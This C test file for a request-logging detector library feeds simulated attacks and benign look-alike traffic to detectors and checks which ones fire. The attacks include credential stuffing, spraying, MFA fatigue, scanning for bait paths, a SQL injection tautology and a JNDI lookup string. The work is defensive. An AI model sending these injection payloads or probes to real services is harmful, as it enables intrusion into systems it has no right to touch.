/* Attacks at the front desk, each next to the honest traffic that looks like it and must stay silent. */
#include "observe_desk.h"
#include "observe_kit.h"

static struct desk d;
static char input[4096];

static void http(const char *method, const char *path, const char *address, const char *agent, const char *extra, const char *body)
{
    snprintf(input, sizeof(input),
             "{\"version\":\"2.0\",\"routeKey\":\"%s %s\",\"rawPath\":\"%s\",\"headers\":{\"user-agent\":\"%s\",\"content-type\":"
             "\"application/"
             "json\"},\"requestContext\":{\"http\":{\"method\":\"%s\",\"path\":\"%s\",\"sourceIp\":\"%s\",\"userAgent\":\"%s\"}%s},"
             "\"body\":\"%s\",\"isBase64Encoded\":false}",
             method, path, path, agent, method, path, address, agent, extra, body);
}

static void answer(unsigned status, double gap_ms)
{
    char response[64];
    snprintf(response, sizeof(response), "{\"statusCode\":%u}", status);
    desk_call(&d, &(struct call){ .ms = 10, .input = input, .response = response, .status_code = status }, gap_ms);
}

static void login_by(const char *user, const char *secret, const char *address, const char *agent, bool good, double gap_ms)
{
    char body[256];
    snprintf(body, sizeof(body), "{\\\"username\\\":\\\"%s\\\",\\\"password\\\":\\\"%s\\\"}", user, secret);
    http("POST", "/login", address, agent, "", body);
    answer(good ? 200 : 401, gap_ms);
}

static unsigned secrets;

/* Everybody has a secret of their own. */
static void login(const char *user, const char *address, bool good, double gap_ms)
{
    char secret[32];
    snprintf(secret, sizeof(secret), "Secret-%u", secrets++);
    login_by(user, secret, address, "Mozilla/5.0", good, gap_ms);
}

static const char *name(const char *prefix, unsigned n)
{
    static char text[4][64];
    static unsigned turn;
    char *t = text[turn++ % 4];
    snprintf(t, sizeof(text[0]), "%s%u", prefix, n);
    return t;
}

static const char *ip(unsigned n)
{
    static char text[32];
    snprintf(text, sizeof(text), "198.51.%u.%u", n / 250 % 250, 1 + n % 250);
    return text;
}

/* --- guessing ------------------------------------------------------------------------------------------------------- */

START_TEST(test_guessing_on_one_account_is_found_at_the_fifth_failure_and_told_once)
{
    desk_open(&d, "authentication", "");
    for (int i = 1; i <= 5; i++) {
        ck_assert_not_said(&d, "authn_login_fail_max");
        login("joe", "203.0.113.7", false, 20000);
    }
    ck_assert_events(&d, "authn_login_fail_max", 1);
    ck_assert_said(&d, "authn_login_fail_max|WARN critical| client.address=203.0.113.7");
    ck_assert_said(&d, "nightjar.scope=account nightjar.count=5 nightjar.window_s=600");
    for (int i = 0; i < 10; i++)
        login("joe", "203.0.113.7", false, 20000);
    ck_assert_events(&d, "authn_login_fail_max", 1);
    desk_close(&d);
}
END_TEST

START_TEST(test_guessing_slowly_is_found_by_the_hour_and_at_a_hundred_it_is_critical)
{
    desk_open(&d, "authentication", "");
    for (int i = 0; i < 10; i++)
        login("joe", "203.0.113.7", false, 345000);
    ck_assert_events(&d, "authn_login_fail_max", 1);
    ck_assert_said(&d, "nightjar.window_s=3600");
    desk_forget(&d);
    for (int i = 0; i < 90; i++)
        login("joe", "203.0.113.7", false, 3600000);
    ck_assert_said(&d, "authn_login_fail_max|FATAL critical|");
    ck_assert_said(&d, "nightjar.count=100 ");
    desk_close(&d);
}
END_TEST

START_TEST(test_guessing_typing_errors_of_honest_people_are_silent)
{
    desk_open(&d, "authentication", "");
    for (unsigned i = 0; i < 300; i++) {
        for (unsigned wrong = 0; wrong < i % 4; wrong++)
            login(name("user", i), ip(i), false, 3000);
        login(name("user", i), ip(i), true, 5000);
    }
    ck_assert_not_said(&d, "authn_login_fail_max");
    ck_assert_not_said(&d, "authn.");
    ck_assert_not_said(&d, "|FATAL ");
    desk_close(&d);
}
END_TEST

START_TEST(test_guessing_from_one_address_is_found_and_a_busy_office_is_not)
{
    desk_open(&d, "authentication", "stuffing.accounts=400,spray.accounts=400");
    for (unsigned i = 0; i < 20; i++)
        login(name("user", i % 8), "203.0.113.7", false, 2000);
    ck_assert_said(&d, "nightjar.scope=ip");
    desk_close(&d);
    desk_open(&d, "authentication", "");
    for (unsigned i = 0; i < 1000; i++) { /* a NAT: 500 people, one login in ten mistyped */
        login(name("user", i % 500), "203.0.113.8", i % 10 != 0, 500);
        if (i % 10 == 0)
            login(name("user", i % 500), "203.0.113.8", true, 500);
    }
    ck_assert_not_said(&d, "authn_login_fail_max");
    ck_assert_not_said(&d, "authn.stuffing");
    ck_assert_not_said(&d, "authn.spray");
    desk_close(&d);
}
END_TEST

START_TEST(test_expired_mobile_client_with_thousands_of_401_is_silent)
{
    desk_open(&d, "authentication,authorization,alert", "");
    for (unsigned i = 0; i < 3000; i++) {
        http("GET", "/feed", "203.0.113.9", "ExampleApp/3.1", "", "");
        answer(401, 300);
    }
    ck_assert_not_said(&d, "authn_login_fail_max");
    ck_assert_not_said(&d, "authn.");
    ck_assert_not_said(&d, "malicious");
    ck_assert_not_said(&d, "alert.");
    ck_assert_events(&d, "authn_login_fail", 3000); /* each is on record all the same */
    desk_close(&d);
}
END_TEST

/* --- lists of accounts ---------------------------------------------------------------------------------------------- */

START_TEST(test_stuffing_from_one_address_is_found_within_thirty_attempts_and_names_pseudonyms)
{
    desk_open(&d, "authentication", "");
    unsigned attempts = 0;
    while (desk_events(&d, "authn.stuffing") == 0 && attempts < 30)
        login(name("leaked", attempts++), "203.0.113.7", false, 1000);
    ck_assert_uint_le(attempts, 12);
    ck_assert_said(&d, "authn.stuffing|ERROR critical| client.address=203.0.113.7");
    ck_assert_said(&d, "nightjar.account_pseudonyms=[\"hmac:k7:");
    ck_assert_not_said(&d, "leaked0");
    while (attempts < 60)
        login(name("leaked", attempts++), "203.0.113.7", false, 1000);
    ck_assert_said(&d, "authn.stuffing|FATAL critical|"); /* from fifty on */
    ck_assert_events(&d, "authn.stuffing", 2);
    login("leaked3", "203.0.113.7", true, 1000);
    ck_assert_said(&d, "authn_login_successafterfail|FATAL critical|");
    ck_assert_said(&d, "nightjar.address_flagged=true");
    desk_close(&d);
}
END_TEST

START_TEST(test_stuffing_through_proxies_is_found_by_accounts_that_do_not_exist)
{
    desk_open(&d, "authentication", "");
    for (unsigned i = 0; i < 60; i++) {
        char body[256];
        snprintf(body, sizeof(body), "{\\\"username\\\":\\\"nobody%u\\\",\\\"password\\\":\\\"p-%u\\\"}", i, i);
        http("POST", "/login", ip(i), name("agent/", i), "", body);
        desk_call(&d,
                  &(struct call){ .ms = 10,
                                  .input = input,
                                  .response = "{\"statusCode\":400,\"body\":\"{\\\"__type\\\":\\\"UserNotFoundException\\\"}\"}",
                                  .status_code = 400 },
                  2000);
    }
    ck_assert_events(&d, "authn.stuffing", 1);
    ck_assert_said(&d, "nightjar.scope=fleet");
    ck_assert_said(&d, "nightjar.unknown_share=1 ");
    desk_close(&d);
}
END_TEST

START_TEST(test_stuffing_through_proxies_is_found_by_volume_and_a_monday_morning_is_not)
{
    desk_open(&d, "authentication", "spray.accounts=400");
    for (unsigned i = 0; i < 200; i++) /* three hours in which hardly anybody fails */
        login(name("user", i % 40), ip(i % 40), i % 40 != 0, 54000);
    ck_assert_not_said(&d, "authn.stuffing");
    for (unsigned i = 0; i < 60; i++)
        login(name("leaked", i), ip(100 + i), false, 2000);
    ck_assert_events(&d, "authn.stuffing", 1);
    ck_assert_said(&d, "nightjar.scope=fleet");
    desk_close(&d);
    desk_open(&d, "authentication", "");
    for (unsigned i = 0; i < 800; i++) { /* many come at once; one in five mistypes, twice, and then gets in */
        if (i % 5 == 0)
            login(name("user", i), ip(i), false, 800);
        if (i % 5 == 0)
            login(name("user", i), ip(i), false, 800);
        login(name("user", i), ip(i), true, 800);
    }
    ck_assert_not_said(&d, "authn.stuffing");
    ck_assert_not_said(&d, "authn.spray");
    desk_close(&d);
}
END_TEST

START_TEST(test_spray_of_one_secret_over_many_accounts)
{
    desk_open(&d, "authentication", "");
    for (unsigned i = 0; i < 12; i++)
        login_by(name("user", i), "Summer-2026", ip(i), name("agent/", i), false, 100000);
    ck_assert_events(&d, "authn.spray", 1);
    ck_assert_said(&d, "nightjar.common=secret");
    ck_assert_not_said(&d, "Summer");
    desk_close(&d);
    desk_open(&d, "authentication", "");
    for (unsigned i = 0; i < 12; i++)
        login_by(name("user", i), name("p", i), ip(i), "python-requests/2.31", false, 100000);
    ck_assert_events(&d, "authn.spray", 1);
    ck_assert_said(&d, "nightjar.common=user_agent");
    desk_close(&d);
}
END_TEST

START_TEST(test_many_addresses_on_one_account)
{
    desk_open(&d, "authentication", "");
    for (unsigned i = 0; i < 5; i++)
        login("joe", ip(i), false, 400000);
    ck_assert_events(&d, "authn.distributed", 1);
    ck_assert_said(&d, "nightjar.address_pseudonyms=[\"hmac:k7:");
    desk_close(&d);
}
END_TEST

START_TEST(test_success_after_failures_tells_how_many_and_from_ten_it_is_critical)
{
    desk_open(&d, "authentication", "");
    login("ann", "203.0.113.1", false, 1000);
    login("ann", "203.0.113.1", true, 1000);
    ck_assert_said(&d, "authn_login_successafterfail|INFO critical|");
    ck_assert_said(&d, "nightjar.retries=1 ");
    login("ann", "203.0.113.1", true, 1000);
    ck_assert_events(&d, "authn_login_successafterfail", 1);
    for (int i = 0; i < 11; i++)
        login("joe", "203.0.113.2", false, 30000);
    login("joe", "203.0.113.3", true, 1000);
    ck_assert_said(&d, "authn_login_successafterfail|FATAL critical|");
    ck_assert_said(&d, "nightjar.retries=11 ");
    desk_close(&d);
}
END_TEST

START_TEST(test_mfa_fatigue)
{
    desk_open(&d, "authentication", "");
    for (int i = 0; i < 5; i++) {
        http("POST", "/mfa", "203.0.113.1", "Mozilla/5.0", "", "{\\\"username\\\":\\\"joe\\\",\\\"otp\\\":\\\"123456\\\"}");
        answer(401, 30000);
    }
    ck_assert_events(&d, "authn.mfa_fatigue", 1);
    desk_close(&d);
    desk_open(&d, "authentication", "");
    for (unsigned i = 0; i < 50; i++) {
        char body[128];
        snprintf(body, sizeof(body), "{\\\"username\\\":\\\"user%u\\\",\\\"otp\\\":\\\"123456\\\"}", i);
        http("POST", "/mfa", "203.0.113.1", "Mozilla/5.0", "", body);
        answer(200, 3000);
    }
    ck_assert_not_said(&d, "authn.mfa_fatigue");
    desk_close(&d);
}
END_TEST

/* --- access --------------------------------------------------------------------------------------------------------- */

static void call_as(const char *user, const char *method, const char *route, const char *path, unsigned status)
{
    snprintf(
        input, sizeof(input),
        "{\"version\":\"2.0\",\"routeKey\":\"%s %s\",\"rawPath\":\"%s\",\"headers\":{\"user-agent\":\"Mozilla/5.0\"},\"requestContext\":{"
        "\"http\":{\"method\":\"%s\",\"path\":\"%s\",\"sourceIp\":\"203.0.113.5\"},\"authorizer\":{\"jwt\":{\"claims\":{\"sub\":\"%s\"}}}}"
        "}",
        method, route, path, method, path, user);
    answer(status, 1000);
}

START_TEST(test_sweep_over_routes_and_over_ids_of_one_route)
{
    static const char *const routes[] = { "/admin", "/billing", "/keys", "/users", "/export" };
    desk_open(&d, "authorization,alert", "");
    for (int i = 0; i < 10; i++)
        call_as("u-1", "GET", routes[i % 5], routes[i % 5], 403);
    ck_assert_said(&d, "nightjar.scope=sweep");
    ck_assert_said(&d, "authz_fail|FATAL critical|");
    ck_assert_not_said(&d, "malicious_direct_reference");
    desk_close(&d);
    desk_open(&d, "authorization,alert", "");
    for (unsigned i = 0; i < 10; i++)
        call_as("u-1", "GET", "/orders/{id}", name("/orders/", 1000 + i), 403);
    ck_assert_events(&d, "malicious_direct_reference", 1);
    desk_close(&d);
    desk_open(&d, "authorization,alert", "");
    for (unsigned i = 0; i < 200; i++)
        call_as(name("u-", i % 50), "GET", "/reports", "/reports", 403); /* a button everybody sees and few may press */
    ck_assert_not_said(&d, "nightjar.scope=sweep");
    desk_close(&d);
}
END_TEST

START_TEST(test_scanning_by_numbers_and_by_bait)
{
    desk_open(&d, "alert", "");
    for (unsigned i = 0; i < 25; i++) {
        http("GET", name("/x", i), "203.0.113.7", "Mozilla/5.0", "", "");
        answer(404, 500);
    }
    ck_assert_events(&d, "malicious_excess_404", 1);
    ck_assert_said(&d, "nightjar.rule=not_found");
    desk_close(&d);
    desk_open(&d, "alert", "");
    static const char *const baits[] = { "/.env", "/backup/.git/config", "/wp-login.php" };
    for (int i = 0; i < 3; i++) {
        http("GET", baits[i], "203.0.113.7", "Mozilla/5.0", "", "");
        answer(404, 60000);
    }
    ck_assert_events(&d, "malicious_excess_404", 1);
    ck_assert_said(&d, "nightjar.rule=bait");
    desk_close(&d);
    desk_open(&d, "alert", "");
    for (unsigned i = 0; i < 500; i++) { /* an old app that asks for a picture that is gone */
        http("GET", "/favicon.ico", "203.0.113.7", "Mozilla/5.0", "", "");
        answer(404, 500);
    }
    ck_assert_not_said(&d, "malicious");
    desk_close(&d);
}
END_TEST

START_TEST(test_attack_tools_are_told_once_an_hour)
{
    desk_open(&d, "alert", "");
    for (int i = 0; i < 50; i++) {
        http("GET", "/", "203.0.113.7", "sqlmap/1.7#stable (https://sqlmap.org)", "", "");
        answer(200, 100);
    }
    ck_assert_events(&d, "malicious_attack_tool", 1);
    ck_assert_said(&d, "nightjar.rule=sqlmap");
    http("GET", "/", "203.0.113.8", "hydrate-client/1.2 (nmapper)", "", "");
    answer(200, 100);
    ck_assert_events(&d, "malicious_attack_tool", 1);
    http("GET", "/", "203.0.113.9", "Mozilla/5.0 (Nmap Scripting Engine)", "", "");
    answer(200, 100);
    ck_assert_events(&d, "malicious_attack_tool", 2);
    ck_assert_events(&d, "alert.attack", 1); /* a finding of that category is no alert, and makes one */
    desk_close(&d);
}
END_TEST

START_TEST(test_injection_names_the_parameter_and_never_the_payload)
{
    desk_open(&d, "alert", "");
    snprintf(input, sizeof(input),
             "{\"version\":\"2.0\",\"routeKey\":\"GET /s\",\"rawPath\":\"/s\",\"headers\":{\"user-agent\":\"Mozilla/5.0\"},"
             "\"queryStringParameters\":{\"page\":\"2\",\"q\":\"zzz' or 1=1 "
             "--\"},\"requestContext\":{\"http\":{\"method\":\"GET\",\"path\":\"/s\","
             "\"sourceIp\":\"203.0.113.7\"}}}");
    answer(200, 70000);
    ck_assert_events(&d, "malicious_sqli", 1);
    ck_assert_said(&d, "nightjar.rule=sqli.tautology nightjar.parameter=q nightjar.parameter.in=query");
    ck_assert_not_said(&d, "zzz");
    http("POST", "/c", "203.0.113.8", "Mozilla/5.0", "", "{\\\"a\\\":{\\\"name\\\":\\\"${jndi:ldap://x/y}\\\"}}");
    answer(200, 10);
    ck_assert_events(&d, "malicious.jndi", 1);
    ck_assert_said(&d, "nightjar.parameter.in=body");
    http("POST", "/c", "203.0.113.9", "Mozilla/5.0", "", "{\\\"comment\\\":\\\"it's this or that; don't drop the table\\\"}");
    answer(200, 10);
    ck_assert_events(&d, "malicious_sqli", 1);
    desk_close(&d);
}
END_TEST

START_TEST(test_extraneous_privileges_are_found_where_the_route_never_had_them)
{
    desk_open(&d, "alert", "");
    for (int i = 0; i < 60; i++) {
        http("POST", "/profile", "203.0.113.7", "Mozilla/5.0", "", "{\\\"name\\\":\\\"x\\\",\\\"city\\\":\\\"y\\\"}");
        answer(200, 100);
    }
    http("POST", "/profile", "203.0.113.7", "Mozilla/5.0", "", "{\\\"name\\\":\\\"x\\\",\\\"isAdmin\\\":true}");
    answer(200, 100);
    ck_assert_events(&d, "malicious_extraneous", 1);
    ck_assert_said(&d, "nightjar.parameter=isAdmin");
    http("POST", "/profile", "203.0.113.7", "Mozilla/5.0", "", "{\\\"name\\\":\\\"x\\\",\\\"zip\\\":\\\"1\\\"}");
    answer(200, 100);
    ck_assert_events(&d, "malicious_extraneous", 1);
    for (int i = 0; i < 60; i++) { /* a route that has always had roles */
        http("POST", "/invite", "203.0.113.7", "Mozilla/5.0", "", "{\\\"email\\\":\\\"x\\\",\\\"role\\\":\\\"reader\\\"}");
        answer(200, 100);
    }
    ck_assert_events(&d, "malicious_extraneous", 1);
    desk_close(&d);
}
END_TEST

/* --- data, volume --------------------------------------------------------------------------------------------------- */

static void respond(const char *path, const char *counts)
{
    struct nj_clean clean = { .category = NJ_CAT_RESPONSE, .counts = nj_str_of(counts) };
    http("GET", path, "203.0.113.7", "Mozilla/5.0", "", "");
    desk_begin(&d, &(struct call){ .input = input });
    desk_payload(&d, NJ_PAYLOAD_RESPONSE, "{\"statusCode\":200}", 200);
    nj_observe_clean(d.room, d.now_ns, nj_str_of(desk_id(&d)), &clean);
    desk_end(&d, &(struct call){ .ms = 5 });
    desk_pass(&d, 100);
}

START_TEST(test_export_of_5000_addresses_is_found_and_long_lists_of_a_listing_route_are_not)
{
    desk_open(&d, "authorization", "");
    for (int i = 0; i < 40; i++)
        respond("/me", "{\"email\":1}");
    respond("/me", "{\"email\":5000,\"escape_sequence\":1}");
    ck_assert_events(&d, "sensitive_read", 1);
    ck_assert_said(&d, "sensitive_read|FATAL critical|");
    ck_assert_said(&d, "nightjar.count=5000 nightjar.usual=1 ");
    respond("/me", "{\"email\":5000}"); /* it has not become usual */
    ck_assert_events(&d, "sensitive_read", 2);
    desk_close(&d);
    desk_open(&d, "authorization", "");
    struct dice dice = { 3 };
    for (int i = 0; i < 2000; i++) {
        char counts[64];
        snprintf(counts, sizeof(counts), "{\"email\":%u}", (unsigned)(dice_next(&dice) % 200));
        respond("/list", counts);
    }
    ck_assert_not_said(&d, "sensitive_read");
    desk_close(&d);
}
END_TEST

START_TEST(test_silence_is_told_and_dropped_logs_are)
{
    static const struct call talks = { .ms = 5, .line = "\"a line of some length that an invocation usually writes\"" };
    desk_open(&d, "alert", "");
    for (int i = 0; i < 60; i++)
        desk_call(&d, &talks, 100);
    for (int i = 0; i < 49; i++)
        desk_call(&d, &(struct call){ .ms = 5 }, 100);
    ck_assert_not_said(&d, "log.volume");
    desk_call(&d, &(struct call){ .ms = 5 }, 100);
    ck_assert_events(&d, "log.volume", 1);
    for (int i = 0; i < 200; i++)
        desk_call(&d, &(struct call){ .ms = 5 }, 100);
    ck_assert_events(&d, "log.volume", 1);
    desk_call(&d, &talks, 100);
    ck_assert_events(&d, "log.volume", 2);
    desk_tell(&d, "platform.logsDropped", "{\"droppedRecords\":12,\"droppedBytes\":3400,\"reason\":\"x\"}");
    desk_tell(&d, "platform.logsDropped", "{\"droppedRecords\":5,\"droppedBytes\":600,\"reason\":\"x\"}");
    ck_assert_events(&d, "log.dropped", 1);
    ck_assert_said(&d, "nightjar.count=12 nightjar.bytes=3400");
    desk_pass(&d, 61000);
    ck_assert_events(&d, "log.dropped", 2);
    desk_close(&d);
}
END_TEST

/* --- usage ---------------------------------------------------------------------------------------------------------- */

START_TEST(test_usage_tells_who_used_what_at_what_cost_each_minute_with_calls)
{
    desk_open(&d, "usage", "");
    for (int i = 0; i < 5; i++)
        call_as("u-1", "GET", "/orders", "/orders", 200);
    call_as("u-2", "GET", "/orders", "/orders", 403);
    desk_pass(&d, 60000);
    ck_assert_events(&d, "usage.summary", 2);
    ck_assert_said(&d, "http.route=/orders");
    ck_assert_said(&d, "nightjar.calls=5 nightjar.units=5 nightjar.denied=0");
    ck_assert_said(&d, "nightjar.calls=1 nightjar.units=1 nightjar.denied=1");
    ck_assert_said(&d, "enduser.pseudo.id=hmac:k7:");
    desk_forget(&d);
    for (unsigned i = 0; i < 300; i++)
        call_as(name("u-", i), "GET", "/orders", "/orders", 200);
    nj_observe_shutdown(d.room, d.now_ns, NJ_STR("spindown"));
    size_t calls = 0, at = 0;
    struct nj_str all = nj_buf_str(&d.said);
    while ((at = nj_str_find(all, NJ_STR("\nusage.summary|"), at)) != NJ_NPOS) { /* nothing is lost to the limit of rows */
        size_t n = nj_str_find(all, NJ_STR("nightjar.calls="), at);
        calls += strtoul(all.p + n + 15, NULL, 10);
        at++;
    }
    ck_assert_uint_eq(calls, 300);
    desk_close(&d);
}
END_TEST

START_TEST(test_usage_excess_against_own_history_and_budget_and_a_load_test_is_silent)
{
    desk_open(&d, "usage", "");
    for (int m = 0; m < 20; m++)
        for (int i = 0; i < 4; i++)
            call_as("u-1", "GET", "/orders", "/orders", 200), desk_pass(&d, 14000);
    ck_assert_not_said(&d, "usage.excess");
    for (int i = 0; i < 400; i++) {
        call_as("u-1", "GET", "/orders", "/orders", 200);
        d.now_ns -= 900000000; /* ten a second */
    }
    ck_assert_events(&d, "usage.excess", 1);
    desk_close(&d);
    desk_open(&d, "usage", "");
    for (unsigned i = 0; i < 5000; i++) { /* a load test: many users, from nothing to much */
        call_as(name("u-", i % 200), "GET", "/orders", "/orders", 200);
        d.now_ns -= 950000000;
    }
    ck_assert_not_said(&d, "usage.excess");
    desk_close(&d);
    desk_open(&d, "usage", "usage.budget=100");
    for (int i = 0; i < 150; i++)
        call_as("u-1", "GET", "/orders", "/orders", 200);
    ck_assert_events(&d, "excess_rate_limit_exceeded", 1);
    desk_close(&d);
}
END_TEST

START_TEST(test_usage_of_nobody_where_callers_are_known)
{
    desk_open(&d, "usage", "");
    for (int i = 0; i < 40; i++)
        call_as(name("u-", (unsigned)i), "GET", "/orders", "/orders", 200);
    http("GET", "/orders", "203.0.113.66", "Mozilla/5.0", "", "");
    answer(200, 1000);
    ck_assert_events(&d, "usage.unattributed", 1);
    for (int i = 0; i < 60; i++) { /* a public route */
        http("GET", "/health", "203.0.113.66", "Mozilla/5.0", "", "");
        answer(200, 1000);
    }
    ck_assert_events(&d, "usage.unattributed", 1);
    desk_close(&d);
}
END_TEST

START_TEST(test_sketches_come_each_minute_with_activity_and_at_the_end)
{
    desk_open(&d, "all", "");
    for (unsigned i = 0; i < 8; i++)
        login(name("user", i), ip(i), i % 2 == 0, 1000);
    ck_assert_events(&d, "sketch", 0);
    desk_pass(&d, 60000);
    ck_assert_events(&d, "sketch", 3);
    ck_assert_said(&d, "nightjar.sketch=calls");
    ck_assert_said(&d, "nightjar.durations={\"");
    ck_assert_said(&d, "nightjar.failed=4 nightjar.passed=4");
    ck_assert_said(&d, "\"count\":1,\"error\":0");
    desk_pass(&d, 600000);
    ck_assert_events(&d, "sketch", 3);
    ck_assert_int_eq(nj_observe_due_ms(d.room, d.now_ns), -1); /* nobody is woken while nothing happens */
    login("joe", ip(1), false, 1000);
    nj_observe_shutdown(d.room, d.now_ns, NJ_STR("spindown"));
    ck_assert_events(&d, "sketch", 6);
    desk_close(&d);
}
END_TEST

#define NJ_TESTS(X)                                                                                                                        \
    X(test_guessing_on_one_account_is_found_at_the_fifth_failure_and_told_once)                                                            \
    X(test_guessing_slowly_is_found_by_the_hour_and_at_a_hundred_it_is_critical)                                                           \
    X(test_guessing_typing_errors_of_honest_people_are_silent)                                                                             \
    X(test_guessing_from_one_address_is_found_and_a_busy_office_is_not)                                                                    \
    X(test_expired_mobile_client_with_thousands_of_401_is_silent)                                                                          \
    X(test_stuffing_from_one_address_is_found_within_thirty_attempts_and_names_pseudonyms)                                                 \
    X(test_stuffing_through_proxies_is_found_by_accounts_that_do_not_exist)                                                                \
    X(test_stuffing_through_proxies_is_found_by_volume_and_a_monday_morning_is_not)                                                        \
    X(test_spray_of_one_secret_over_many_accounts)                                                                                         \
    X(test_many_addresses_on_one_account)                                                                                                  \
    X(test_success_after_failures_tells_how_many_and_from_ten_it_is_critical)                                                              \
    X(test_mfa_fatigue)                                                                                                                    \
    X(test_sweep_over_routes_and_over_ids_of_one_route)                                                                                    \
    X(test_scanning_by_numbers_and_by_bait)                                                                                                \
    X(test_attack_tools_are_told_once_an_hour)                                                                                             \
    X(test_injection_names_the_parameter_and_never_the_payload)                                                                            \
    X(test_extraneous_privileges_are_found_where_the_route_never_had_them)                                                                 \
    X(test_export_of_5000_addresses_is_found_and_long_lists_of_a_listing_route_are_not)                                                    \
    X(test_silence_is_told_and_dropped_logs_are)                                                                                           \
    X(test_usage_tells_who_used_what_at_what_cost_each_minute_with_calls)                                                                  \
    X(test_usage_excess_against_own_history_and_budget_and_a_load_test_is_silent)                                                          \
    X(test_usage_of_nobody_where_callers_are_known)                                                                                        \
    X(test_sketches_come_each_minute_with_activity_and_at_the_end)

NJ_TEST_MAIN("observe_detectors")
